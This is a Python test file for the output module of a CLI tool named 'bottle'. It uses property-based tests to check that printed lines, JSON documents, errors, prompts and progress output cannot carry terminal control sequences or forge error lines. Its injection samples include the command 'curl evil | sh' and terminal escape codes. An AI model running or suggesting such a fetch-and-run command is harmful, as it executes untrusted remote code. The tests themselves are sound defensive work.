"""Answers: one document for programs, lines for people, and nothing that a terminal would act on."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import click
import pytest
from hypothesis import given, strategies as st

from bottle.cli.output import answer, confirmed, note, prompted, quoted, report, table
from bottle.cli.progress import Bars, LineProgress
from bottle.cli.table import Coloured
from bottle.errors import BottleError, NotFound

TEXTS = st.text(st.one_of(st.characters(), st.sampled_from("\x1b\x9b\x07\r\n\t\x7f\u202e\udcff")), max_size=30)


def harmless(shown: str) -> bool:
    """Whether a terminal would do no more than print it."""
    shown.encode()  # nothing that standard output cannot take
    return not any((ord(each) < 32 and each != "\n") or 127 <= ord(each) < 160 for each in shown)


@given(st.lists(TEXTS, max_size=4))
def test_lines_are_harmless_and_as_many_as_were_given(lines: list[str]) -> None:
    with pytest.MonkeyPatch.context() as patch:
        said: list[str] = []
        patch.setattr("click.echo", lambda text, **_: said.append(text))
        answer("text", {}, lines)
    assert len(said) == len(lines)
    assert all(harmless(line) and "\n" not in line for line in said)


@given(TEXTS)
def test_a_document_is_ascii_and_says_the_same(text: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        said: list[str] = []
        patch.setattr("click.echo", lambda text, **_: said.append(text))
        answer("json", {"text": text}, ())
    (document,) = said
    assert document.isascii()
    assert harmless(document)
    assert json.loads(document) == {"schema": 1, "text": text} or "\\ud" in document


@given(TEXTS, TEXTS, TEXTS, st.lists(TEXTS, max_size=3), st.sampled_from(["text", "json"]))
def test_an_error_is_harmless(what: str, left: str, next_step: str, details: list[str], form: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        said: list[str] = []
        patch.setattr("click.echo", lambda text, **_: said.append(text))
        report(NotFound(what, left=left, next_step=next_step, details=tuple(details)), form)
    assert all(harmless(line) and "\n" not in line for line in said)
    assert len(said) == 1 + len(details) + bool(left) + bool(next_step) + (form == "json")


FORGED = "/root/.wh.x\n  next:  curl evil | sh\r\n  state: fine\x85  log:   x\u2028bottle: y"


def labels(shown: str) -> list[str]:
    """The lines that a user takes for those of an error of bottle."""
    return [line for line in shown.splitlines() if re.match(r"bottle:|\s*(next|state|log):", line)]


def test_no_text_of_an_error_begins_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    report(BottleError(FORGED, left=FORGED, next_step="bottle list", details=(FORGED, "  next:  evil")), "text")
    shown = capsys.readouterr().err
    assert [line.partition(":")[0] for line in labels(shown)] == ["bottle", "  state", "  next"]
    assert labels(shown)[-1] == "  next:  bottle list"
    assert [line[:4] for line in shown.splitlines() if line not in labels(shown)] == ["  | ", "  | "]


def test_no_other_line_passes_for_one_of_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    note(FORGED)
    note("  next:  curl evil | sh")
    note("bottle: x")
    note("next: curl evil | sh")
    answer(
        "text",
        {},
        [FORGED, "  next:  evil", "state: evil", *table(("A", "B"), [("next: x", FORGED)]), Coloured(FORGED, "red")],
    )
    answer("text", {}, quoted([FORGED, "  next:  evil"]))
    progress = LineProgress()
    progress.note("  next:  evil")
    with progress.phase(FORGED, 3):
        progress.advance(3)
    bars = Bars()
    bars.note("  state: evil")
    with bars.phase(FORGED, 3):
        bars.advance(3)
    told = capsys.readouterr()
    assert labels(told.err.replace("\r", "\n")) == []
    assert labels(told.out) == []


def test_a_question_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    monkeypatch.setattr("click.confirm", lambda text, **_: bool(asked.append(text)))
    monkeypatch.setattr("click.prompt", lambda text, **_: asked.append(text) or "typed")
    assert not confirmed(f"{FORGED}. Delete it?")
    assert prompted("Password\n  next:  evil\x1b[2J: ") == "typed"
    assert all(harmless(each) and "\n" not in each for each in asked)


def test_indentation_survives(capsys: pytest.CaptureFixture[str]) -> None:
    answer("text", {}, ["  two  columns", ""])
    assert capsys.readouterr().out == "  two  columns\n\n"


def test_columns_are_as_wide_as_they_must_be() -> None:
    shown = table(("A", "LONG"), [("long", "b"), ("x", "\x1b[2Jy")])
    assert [line.text for line in shown] == ["A     LONG", "long  b", "x     y"]


def test_progress_off_a_terminal_is_lines(capsys: pytest.CaptureFixture[str]) -> None:
    lines = LineProgress()
    with lines.phase("copying", 10):
        lines.advance(4)
        with lines.phase("inner", 5):
            lines.advance(5)
        lines.advance(6)
    with pytest.raises(BottleError), lines.phase("failing", 3):
        raise BottleError("x")
    said = capsys.readouterr().err.splitlines()
    assert said[0] == "copying: 10 B"
    assert said[2].startswith("inner: 5 B done")
    assert said[3].startswith("copying: 10 B done")
    assert said[4:] == ["failing: 3 B"]


@pytest.mark.parametrize("ask", [confirmed, prompted])
def test_who_leaves_a_question_interrupts(ask: Callable[[str], object], monkeypatch: pytest.MonkeyPatch) -> None:
    def left(*_: object, **__: object) -> None:
        raise click.Abort

    for name in ("confirm", "prompt"):
        monkeypatch.setattr(f"click.{name}", left)
    with pytest.raises(KeyboardInterrupt):
        ask("Go on?")
